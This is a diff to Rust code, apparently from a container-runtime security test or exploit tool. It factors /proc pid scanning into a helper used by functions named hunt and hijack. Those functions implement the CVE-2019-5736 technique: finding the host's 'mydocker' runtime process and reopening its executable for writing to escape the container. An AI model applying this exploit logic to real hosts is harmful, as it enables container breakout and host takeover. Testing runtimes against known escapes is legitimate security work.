@@ -250,6 +250,12 @@ fn procs(marker: &str, rounds: usize) -> String {
     v.join("\n")
 }
 
+/// The pids in /proc other than `me` (None if /proc cannot be read).
+fn other_pids(me: &str) -> Option<Vec<String>> {
+    let d = std::fs::read_dir("/proc").ok()?;
+    Some(d.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).filter(|n| n.bytes().all(|b| b.is_ascii_digit()) && n != me).collect())
+}
+
 /// Scans /proc for ROUNDS rounds for a process whose exe is the file
 /// DEV:INO (the host's mydocker), holding an O_PATH descriptor to each one
 /// found; at the end reopens those for writing (CVE-2019-5736).
@@ -259,12 +265,8 @@ fn hunt(dev: u64, ino: u64, rounds: usize) -> String {
     let mut traced = String::new();
     let mut caps = 0u64;
     for _ in 0..rounds {
-        let Ok(d) = std::fs::read_dir("/proc") else { break };
-        for e in d.flatten() {
-            let n = e.file_name().to_string_lossy().into_owned();
-            if !n.bytes().all(|b| b.is_ascii_digit()) || n == me {
-                continue;
-            }
+        let Some(pids) = other_pids(&me) else { break };
+        for n in pids {
             let p = c(&format!("/proc/{n}/exe"));
             let fd = sys(libc::SYS_openat, [libc::AT_FDCWD as i64, p.as_ptr() as i64, (libc::O_PATH | libc::O_CLOEXEC) as i64, 0, 0, 0]);
             if fd < 0 {
@@ -363,12 +365,8 @@ fn hijack(dev: u64, ino: u64, rounds: usize, dir: &str) -> String {
     let mut seen = false;
     let _ = std::fs::create_dir_all(dir);
     for _ in 0..rounds {
-        let Ok(d) = std::fs::read_dir("/proc") else { break };
-        for e in d.flatten() {
-            let n = e.file_name().to_string_lossy().into_owned();
-            if !n.bytes().all(|b| b.is_ascii_digit()) || n == me {
-                continue;
-            }
+        let Some(pids) = other_pids(&me) else { break };
+        for n in pids {
             let Ok(m) = std::fs::metadata(format!("/proc/{n}/exe")) else { continue };
             use std::os::unix::fs::MetadataExt;
             if m.dev() != dev || m.ino() != ino {
